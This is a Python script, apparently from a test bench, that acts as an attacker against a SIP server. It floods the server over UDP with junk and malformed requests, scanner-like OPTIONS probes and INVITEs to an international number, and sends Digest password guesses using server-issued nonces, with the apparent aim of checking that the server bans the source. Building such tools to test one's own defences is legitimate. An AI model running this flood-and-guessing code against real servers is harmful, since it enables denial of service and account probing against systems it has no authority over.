#!/usr/bin/env python3
"""An attacker: sends junk and requests without a password to a SIP server, so many a second, and guesses passwords meanwhile.

Arguments: ADDRESS SERVER_HOST SERVER_PORT RATE SECONDS. Prints JSON: what was sent, what was answered, by status. Passwords are guessed with nonces that the
server gave, as a made-up source cannot, so that the address may be banned; the rest goes on as before, as an attacker's program does.
"""
import collections
import json
import re
import socket
import sys
import time

# how many datagrams are sent at a time
BATCH = 50
# accounts whose passwords are guessed, of those that the bench has
FIRST_ACCOUNT = 60000
GUESSES_A_BATCH = 1


class Attacker:
    def __init__(self, address, server):
        self.address = address
        self.server = server
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
        self.socket.bind((address, 5066))
        self.socket.setblocking(False)
        self.sent = 0
        self.answers = collections.Counter()
        self.nonces = collections.deque(maxlen=100)

    def request(self, method, user, more="", agent="probe"):
        here, number = f"{self.address}:5066", self.sent
        return (f"{method} sip:{user}@{self.server[0]} SIP/2.0\r\nVia: SIP/2.0/UDP {here};branch=z9hG4bKa{number};rport\r\nMax-Forwards: 70\r\n"
                f"From: <sip:{user}@{self.server[0]}>;tag=a{number}\r\nTo: <sip:{user}@{self.server[0]}>\r\nCall-ID: a{number}@{here}\r\n"
                f"CSeq: 1 {method}\r\nContact: <sip:{user}@{here}>\r\nUser-Agent: {agent}\r\n{more}Content-Length: 0\r\n\r\n").encode()

    def guess(self):
        nonce, user = self.nonces.popleft(), FIRST_ACCOUNT + self.sent % 1000
        return self.request("REGISTER", user, f'Authorization: Digest username="{user}", realm="parley", nonce="{nonce}", '
                            f'uri="sip:{self.server[0]}", algorithm=MD5, qop=auth, nc=00000001, cnonce="a", response="{"0" * 32}"\r\n')

    def junk(self):
        """Each of these in turn: asked for a challenge, calls, lamps, scanners, dialogs that there are not, broken messages, no SIP at all."""
        number = self.sent
        user = FIRST_ACCOUNT + number % 1000
        kinds = (lambda: self.request("REGISTER", user),
                 lambda: self.request("INVITE", "00900123456789"),
                 lambda: self.request("SUBSCRIBE", user, "Event: dialog\r\n"),
                 lambda: self.request("OPTIONS", "100", agent="friendly-scanner"),
                 lambda: self.request("BYE", user),
                 lambda: self.request("INVITE", user)[:number % 300],
                 lambda: bytes((number * 7 + at) % 256 for at in range(200)),
                 lambda: self.request("MESSAGE", user, "X: " + "a" * 1200 + "\r\n"))
        return kinds[number % len(kinds)]()

    def send(self, message):
        self.sent += 1
        try:
            self.socket.sendto(message, self.server)
        except BlockingIOError:
            self.answers["not sent"] += 1

    def hear(self):
        while True:
            try:
                answer = self.socket.recv(65535)
            except BlockingIOError:
                return
            self.answers[answer[8:11].decode("ascii", "replace")] += 1
            if nonce := re.search(rb'nonce="([^"]+)"', answer):
                self.nonces.append(nonce.group(1).decode())

    def attack(self, rate, seconds):
        start = time.monotonic()
        while (now := time.monotonic() - start) < seconds:
            while self.sent < now * rate:
                for _ in range(BATCH):
                    self.send(self.junk())
                for _ in range(GUESSES_A_BATCH if self.nonces else 0):
                    self.send(self.guess())
                self.hear()
            time.sleep(0.002)
        time.sleep(0.5)
        self.hear()
        return time.monotonic() - start - 0.5


def main():
    address, host, port, rate, seconds = sys.argv[1], sys.argv[2], *map(int, sys.argv[3:6])
    attacker = Attacker(address, (host, port))
    took = attacker.attack(rate, seconds)
    print(json.dumps({"sent": attacker.sent, "rate": round(attacker.sent / took), "answers": dict(attacker.answers)}))


if __name__ == "__main__":
    main()
